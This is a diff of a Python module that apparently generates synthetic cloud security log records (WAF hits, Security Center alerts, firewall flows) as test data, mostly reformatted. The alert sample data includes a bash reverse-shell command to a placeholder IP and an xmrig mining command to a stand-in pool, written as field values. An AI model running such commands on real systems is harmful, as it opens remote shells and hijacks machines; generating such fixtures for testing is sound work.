@@ -70,12 +70,16 @@ _OSS_OPS = (("GetObject", "GET"), ("PutObject", "PUT"), ("HeadObject", "HEAD"), 
 _HTTP_STATUS = ("200", "200", "200", "200", "206", "304", "403", "404", "500")
 _URIS = ("/", "/api/v1/orders", "/api/v1/users/42", "/static/app.js", "/healthz", "/login?next=%2Fhome",
          "/search?q=%E6%97%A5%E5%BF%97")
-_WAF_RULES = (("block", "waf", "111354", "sqli"), ("block", "waf", "113100", "xss"), ("captcha", "cc", "200501", "custom"),
-              ("js", "antiscan", "300233", "dirscan"), ("block", "blacklist", "401120", "blacklist"))
+_WAF_RULES = (("block", "waf", "111354", "sqli"), ("block", "waf", "113100", "xss"),
+              ("captcha", "cc", "200501", "custom"), ("js", "antiscan", "300233", "dirscan"),
+              ("block", "blacklist", "401120", "blacklist"))
 _WAF_PATHS = ("/", "/login", "/api/v1/orders", "/wp-login.php", "/search", "/admin/config.php", "/static/app.js")
-_SAS_ALERTS = (("serious", "Reverse Shell", "aegis_suspicious_event"), ("suspicious", "Unusual Logon", "aegis_login_log"),
+# (level, name, data_source): levels serious/suspicious/remind as Security Center names them.
+_SAS_ALERTS = (("serious", "Reverse Shell", "aegis_suspicious_event"),
+               ("suspicious", "Unusual Logon", "aegis_login_log"),
                ("remind", "Suspicious Process Execution", "aegis_suspicious_event"),
-               ("serious", "Mining Program", "aegis_suspicious_file_v2"), ("suspicious", "Webshell", "aegis_webshell"))
+               ("serious", "Mining Program", "aegis_suspicious_file_v2"),
+               ("suspicious", "Webshell", "aegis_webshell"))
 _FIREWALL_APPS = (("HTTPS", "443", "tcp"), ("HTTP", "80", "tcp"), ("SSH", "22", "tcp"), ("DNS", "53", "udp"),
                   ("Unknown", "3389", "tcp"))
 _LARGE_BLOCK = ("The quick brown fox jumps over the lazy dog; \u65e5\u5fd7\u670d\u52a1 ") * 64
@@ -347,9 +351,10 @@ def _waf(rng: random.Random, event_id: str, when: int) -> List[Tuple[str, Value]
 def _sas_alert(rng: random.Random, event_id: str, when: int) -> List[Tuple[str, Value]]:
     """Security Center alert log fields (field reference: Security Center logs, security alert logs)."""
     level, name, source = rng.choice(_SAS_ALERTS)
-    detail = {"instance_id": "i-" + _hex(rng, 20).lower(), "internet_ip": _ip(rng), "intranet_ip": "172.16.%d.%d" % (
-        rng.randrange(256), rng.randrange(1, 255)), "cmdline": rng.choice(("bash -i >& /dev/tcp/198.51.100.7/4444 0>&1",
-                                                                          "/tmp/.x/xmrig -o pool.example:3333", "sshd")),
+    detail = {"instance_id": "i-" + _hex(rng, 20).lower(), "internet_ip": _ip(rng),
+              "intranet_ip": "172.16.%d.%d" % (rng.randrange(256), rng.randrange(1, 255)),
+              "cmdline": rng.choice(("bash -i >& /dev/tcp/198.51.100.7/4444 0>&1",
+                                     "/tmp/.x/xmrig -o pool.example:3333", "sshd")),
               "user": rng.choice(("root", "www-data", "admin"))}
     return [
         ("event_id", event_id), ("data_source", source), ("level", level), ("name", name),
@@ -371,7 +376,8 @@ def _cloudfirewall(rng: random.Random, event_id: str, when: int) -> List[Tuple[s
         ("ip_protocol", protocol), ("app_name", app), ("direction", "in" if inbound else "out"),
         ("rule_result", rng.choice(("pass", "pass", "pass", "drop", "alert"))),
         ("acl_rule_id", "%s-%s-%s-%s-%s" % (_hex(rng, 8), _hex(rng, 4), _hex(rng, 4), _hex(rng, 4), _hex(rng, 12))),
-        ("rule_source", rng.choice(("1", "2"))), ("start_time", str(when)), ("end_time", str(when + rng.randrange(1, 60))),
+        ("rule_source", rng.choice(("1", "2"))), ("start_time", str(when)),
+        ("end_time", str(when + rng.randrange(1, 60))),
         ("in_packet_count", str(packets_in)), ("in_packet_bytes", str(bytes_in)),
         ("out_packet_count", str(packets_out)), ("out_packet_bytes", str(bytes_out)),
         ("total_packet_bytes", str(bytes_in + bytes_out)), ("region_id", rng.choice(_REGIONS)),
